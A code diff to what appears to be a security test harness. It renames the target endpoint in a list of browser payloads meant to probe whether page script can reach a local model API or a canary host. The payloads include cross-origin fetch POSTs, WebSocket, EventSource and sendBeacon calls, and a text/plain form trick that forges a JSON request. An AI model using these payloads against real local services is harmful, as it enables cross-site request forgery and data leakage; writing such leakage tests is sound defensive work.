@@ -57,12 +57,12 @@ PAYLOADS = [
     Payload(
         "fetch-api-generate",
         S(
-            "await fetch('{A}/api/generate',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({prompt:'PWNED',max_new_tokens:4,stream:false})})"
+            "await fetch('{A}/api/diffuse',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({prompt:'PWNED',max_new_tokens:4,stream:false})})"
         ),
     ),
     Payload(
         "fetch-api-no-cors-post",
-        S("await fetch('{A}/api/generate',{method:'POST',mode:'no-cors',body:'{\"prompt\":\"PWNED\"}'})"),
+        S("await fetch('{A}/api/diffuse',{method:'POST',mode:'no-cors',body:'{\"prompt\":\"PWNED\"}'})"),
     ),
     Payload("fetch-relative-api", S("await fetch('/api/models')")),
     Payload(
@@ -79,13 +79,11 @@ PAYLOADS = [
         ),
     ),
     Payload("websocket-canary", S("new WebSocket('ws://{CH}/ws')")),
-    Payload("websocket-api", S("new WebSocket('ws://{AH}/api/generate')")),
+    Payload("websocket-api", S("new WebSocket('ws://{AH}/api/diffuse')")),
     Payload("eventsource-canary", S("new EventSource('{C}/sse')")),
     Payload("eventsource-api", S("new EventSource('{A}/api/models')")),
     Payload("beacon-canary", S("if(!navigator.sendBeacon('{C}/beacon','x'))throw Error('refused')")),
-    Payload(
-        "beacon-api", S("if(!navigator.sendBeacon('{A}/api/generate','{\"prompt\":\"x\"}'))throw Error('refused')")
-    ),
+    Payload("beacon-api", S("if(!navigator.sendBeacon('{A}/api/diffuse','{\"prompt\":\"x\"}'))throw Error('refused')")),
     Payload("fetch-keepalive", S("await fetch('{C}/keepalive',{method:'POST',keepalive:true,body:'x'})")),
     Payload(
         "webrtc-turn",
@@ -188,7 +186,7 @@ PAYLOADS = [
     ),
     Payload(
         "form-post-api",
-        '<form id="f" method="post" action="{A}/api/generate" enctype="text/plain"><input name=\'{"prompt":"PWNED","x":"\' value=\'"}\'></form>'
+        '<form id="f" method="post" action="{A}/api/diffuse" enctype="text/plain"><input name=\'{"prompt":"PWNED","x":"\' value=\'"}\'></form>'
         + S("document.getElementById('f').submit()"),
         navigates=True,
     ),
